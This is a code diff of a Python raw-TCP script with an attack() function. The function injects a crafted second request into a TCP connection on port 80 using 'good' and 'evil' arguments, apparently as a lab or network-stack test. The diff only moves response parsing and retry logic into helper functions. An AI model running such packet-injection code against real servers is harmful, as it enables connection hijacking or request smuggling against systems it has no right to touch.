@@ -19,7 +19,7 @@ import random
 import sys
 
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
-from rawtcp import ACK, FIN, PSH, RST, Raw  # noqa: E402
+from rawtcp import ACK, FIN, PSH, RST, Raw, answer, tries  # noqa: E402
 
 src, dst, good, evil = sys.argv[1:5]
 t = Raw(src, dst, 80, random.randint(42000, 60000))
@@ -47,14 +47,7 @@ def attack():
         return None
     t.send(X + 1, C + 1, ACK | PSH, REQ2)  # 5
     got = t.until(lambda p: p["flags"] & (FIN | RST) or b"hello" in p["data"])
-    if any(p["flags"] & RST for p in got):
-        return "error reset"
-    text = b"".join(p["data"] for p in got).decode(errors="replace").strip()
-    return text.splitlines()[-1] if text else "error no answer"
+    return answer(got)
 
 
-for _ in range(3):  # a minute's turn twice in three tries takes minutes
-    out = attack()
-    if out is not None:
-        break
-print(out if out is not None else "error the cookie changed each time")
+print(tries(attack))
